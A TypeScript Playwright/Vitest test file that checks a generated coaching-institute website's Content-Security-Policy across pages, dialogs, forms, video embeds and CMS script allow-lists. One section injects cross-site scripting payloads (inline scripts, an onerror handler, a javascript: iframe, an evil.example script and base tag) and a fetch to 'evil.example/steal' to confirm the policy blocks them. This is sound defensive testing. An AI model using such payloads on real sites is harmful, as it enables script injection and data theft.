import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { listKindsOfPages } from '../pages/list-kinds-of-pages.ts';
import { openBrowser } from '../support/browser.ts';
import { openSandboxSite, type SandboxSite } from '../support/sandbox-site.ts';
import { watchViolations } from '../support/watch-violations.ts';

let browser: Browser;
let open: SandboxSite;
beforeAll(async () => {
  [open, browser] = await Promise.all([openSandboxSite(), openBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await open?.close();
});

const hashOf = (text: string) => createHash('sha256').update(text).digest('base64');

interface Visit {
  readonly page: Page;
  readonly violations: readonly string[];
}

/** Runs work on a page of its own. Players and pictures elsewhere are answered here: nothing leaves the machine. */
async function visit(work: (visit: Visit) => Promise<void>): Promise<void> {
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  page.setDefaultTimeout(10_000);
  try {
    const violations = await watchViolations(page);
    await page
      .context()
      .route('https://**', (route) => route.fulfill({ contentType: 'text/html', body: '<p>Elsewhere</p>' }));
    await work({ page, violations });
  } finally {
    await page.close();
  }
}

/** Answers the page at a path with changed text or further headers. */
async function change(
  page: Page,
  { edit = (html) => html, headers = {} }: { edit?: (html: string) => string; headers?: Record<string, string> },
): Promise<void> {
  await page.route(`${open.preview.url}/**`, async (route) => {
    if (route.request().resourceType() !== 'document') return route.continue();
    const response = await route.fetch();
    await route.fulfill({
      response,
      body: edit(await response.text()),
      headers: { ...response.headers(), ...headers },
    });
  });
}

/** The headers that `_headers` gives every answer, but for those that speak of https. */
function servedHeaders(): Record<string, string> {
  const lines = open.site.read('_headers').split('/_assets/*')[0]?.split('\n') ?? [];
  const pairs = lines.flatMap((line) => [...line.matchAll(/^ {2}([A-Za-z-]+): (.*)$/g)]);
  return Object.fromEntries(pairs.map(([, name, value]) => [name, value]));
}

describe('nothing that belongs to the site breaks the policy', () => {
  test('on any kind of page, with the headers a web server adds', async () => {
    await visit(async ({ page, violations }) => {
      await change(page, { headers: servedHeaders() });
      for (const address of listKindsOfPages(open.site)) {
        await page.goto(open.preview.url + address, { waitUntil: 'load' });
        await page.evaluate(() => {
          for (const element of document.querySelectorAll('[data-island]')) element.scrollIntoView();
        });
        expect(await page.evaluate(() => document.documentElement.dataset.sessionState)).toBe('out');
      }
      await page.waitForTimeout(300);
      expect(violations).toEqual([]);
    });
  });

  test('when the popup comes from the API host', async () => {
    await visit(async ({ page, violations }) => {
      await page.goto(open.preview.url);
      const picture = page.getByRole('dialog').getByRole('img');
      await picture.waitFor();
      expect(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
      expect(violations).toEqual([]);
    });
  });

  test('when every dialog is opened and a photograph chosen', async () => {
    await visit(async ({ page, violations }) => {
      await page.route('**/api/s/popup**', (route) => route.fulfill({ json: [] }));
      await page.goto(open.preview.url);
      const dialog = page.getByRole('dialog');
      const banner = page.getByRole('banner');
      await banner.getByRole('button', { name: 'Log In' }).first().click();
      await dialog.getByRole('button', { name: 'Login' }).waitFor();
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: 'ENQUIRY NOW' }).first().click();
      await dialog.getByRole('button', { name: 'submit' }).waitFor();
      await page.keyboard.press('Escape');
      await banner.getByRole('button', { name: 'Sign Up' }).first().click();
      const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
      await dialog
        .getByLabel('Photo')
        .setInputFiles({ name: 'me.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') });
      await dialog.getByRole('img', { name: 'Your chosen photo' }).waitFor();
      expect(violations).toEqual([]);
    });
  });

  test('when an enquiry is sent and a student logs in', async () => {
    await visit(async ({ page, violations }) => {
      await page.route('**/api/s/popup**', (route) => route.fulfill({ json: [] }));
      await page.goto(`${open.preview.url}/contact`);
      const form = page.getByRole('main').locator('form').first();
      await form.scrollIntoViewIfNeeded();
      await form.getByLabel('Name', { exact: true }).fill('Asha Verma');
      await form.getByLabel('Email').fill('asha@example.in');
      await form.getByLabel('Mobile Number').fill('9123456780');
      await form.getByLabel('City').fill('Prayagraj');
      await form.getByLabel('Message').fill('When does the next batch begin?');
      await form.getByLabel('Course').selectOption({ label: 'State PCS' });
      await form.getByRole('button', { name: 'submit' }).click();
      await expect.poll(() => open.sandbox.requests.to('/api/enquiry/enquiry').length).toBeGreaterThan(0);
      await page.goto(`${open.preview.url}/login`);
      await page.getByRole('textbox', { name: 'Username' }).fill('9876543210');
      await page.getByLabel('Password', { exact: true }).and(page.locator('input[type="password"]')).fill('demo1234');
      await page.getByRole('button', { name: 'Login', exact: true }).click();
      await page.waitForURL(`${open.preview.url}/`);
      expect(violations).toEqual([]);
    });
  });

  test('when a film makes way for its player', async () => {
    await visit(async ({ page, violations }) => {
      await page.goto(`${open.preview.url}/video-gallery`);
      // What a frame of another origin loads cannot be answered here: that it is asked for is what counts.
      await page.context().setOffline(true);
      const asked = page.waitForRequest(/^https:\/\/www\.youtube-nocookie\.com\/embed\//);
      await page.locator('a[data-video-embed]').first().click();
      await asked;
      await page.waitForTimeout(200);
      expect(violations).toEqual([]);
    });
  });

  test('even where browsers are told to demand trusted types', async () => {
    await visit(async ({ page, violations }) => {
      await change(page, {
        headers: { 'Content-Security-Policy': "require-trusted-types-for 'script'; trusted-types 'none'" },
      });
      await page.goto(`${open.preview.url}/contact`);
      await page.getByRole('banner').getByRole('button', { name: 'Log In' }).first().click();
      await page.getByRole('dialog').getByRole('button', { name: 'Login' }).waitFor();
      expect(violations).toEqual([]);
    });
  });
});

describe('what slipped in is stopped', () => {
  test.each([
    ['an inline script', '<script>window.slipped = 1</script>', 'script-src-elem inline'],
    ['code in an attribute', '<img src="/none" onerror="window.slipped = 1">', 'script-src-attr inline'],
    [
      'a script from elsewhere',
      '<script src="https://evil.example/x.js"></script>',
      'script-src-elem https://evil.example',
    ],
    ['a script in an address', '<iframe src="javascript:parent.slipped = 1"></iframe>', 'script-src-elem inline'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src https://evil.example'],
    ['an object', '<object data="/x.svg"></object>', 'object-src'],
    ['another base', '<base href="https://evil.example/">', 'base-uri https://evil.example'],
    ['a style', '<style>body { display: none }</style>', 'style-src-elem inline'],
  ])('%s', async (_name, html, expected) => {
    await visit(async ({ page, violations }) => {
      await change(page, { edit: (text) => text.replace('<main', `${html}<main`) });
      await page.goto(`${open.preview.url}/contact`);
      await expect.poll(() => violations.join('\n')).toContain(expected);
      expect(await page.evaluate(() => 'slipped' in window)).toBe(false);
      expect(await page.getByRole('main').isVisible()).toBe(true);
    });
  });

  test('calls to other hosts', async () => {
    await visit(async ({ page, violations }) => {
      await page.goto(`${open.preview.url}/contact`);
      const outcome = await page.evaluate(async () => {
        const tries = [
          () => fetch('https://evil.example/steal'),
          () => new Promise((_, reject) => Object.assign(new WebSocket('wss://evil.example/'), { onerror: reject })),
        ];
        return Promise.all(
          tries.map((attempt) =>
            attempt().then(
              () => 'done',
              () => 'stopped',
            ),
          ),
        );
      });
      expect(outcome).toEqual(['stopped', 'stopped']);
      await expect.poll(() => violations.filter((text) => text.includes('connect-src')).length).toBeGreaterThan(1);
    });
  });
});

describe("the CMS's scripts", () => {
  const inline = 'window.ran = (window.ran ?? []).concat("inline");\r\nwindow.lines = 2;';
  const refused = 'window.ran = (window.ran ?? []).concat("refused")';
  const data = { attributes: { type: 'application/json', id: 'settings' }, innerHTML: '{"a":1}' };
  const external = { attributes: { src: 'https://tags.example/t.js', async: true } };
  let site: SandboxSite;

  beforeAll(async () => {
    site = await openSandboxSite();
    site.sandbox.content.update(({ settings }) => {
      Object.assign(settings.website as object, {
        script: [{ innerHTML: inline }, { innerHTML: refused }, data, external],
      });
    });
  });
  afterAll(() => site?.close());

  const findRan = async () => {
    let ran: unknown;
    await visit(async ({ page, violations }) => {
      await page.route('https://tags.example/**', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: 'window.ran = (window.ran ?? []).concat("external")' }),
      );
      await page.goto(`${site.preview.url}/contact`, { waitUntil: 'load' });
      // biome-ignore lint/suspicious/noExplicitAny: what the scripts leave behind
      ran = await page.evaluate(() => (window as any).ran ?? []);
      expect(violations).toEqual([]);
    });
    return ran;
  };
  const configure = async (scripts: { allow: 'all' | string[] }) => {
    const config = JSON.parse(await readFile(`${site.site.folder}/pathshala.config.json`, 'utf8'));
    await site.site.configure({ ...config, scripts });
    const { code, report } = await site.site.generate();
    expect(code).toBe(0);
    return report.warnings;
  };
  test('all run when all are allowed', async () => {
    expect(await configure({ allow: 'all' })).toEqual([]);
    expect(await findRan()).toEqual(expect.arrayContaining(['inline', 'refused', 'external']));
  });

  test('those on a list run, the others are not in the page, and the warning names the hash', async () => {
    const warnings = await configure({ allow: [`sha256-${hashOf(inline)}`, `sha256-${hashOf('{"a":1}')}`] });
    expect(warnings.map(({ message }) => message)).toEqual([
      expect.stringContaining(`sha256-${hashOf(refused)}`),
      expect.stringContaining('https://tags.example'),
    ]);
    expect(site.site.read('contact.html')).not.toContain(refused);
    expect(site.site.read('_headers')).not.toMatch(/tags\.example/);
    expect(await findRan()).toEqual(['inline']);
  });

  test('an origin on the list lets its script in', async () => {
    await configure({ allow: ['https://tags.example'] });
    expect(await findRan()).toEqual(['external']);
  });
});
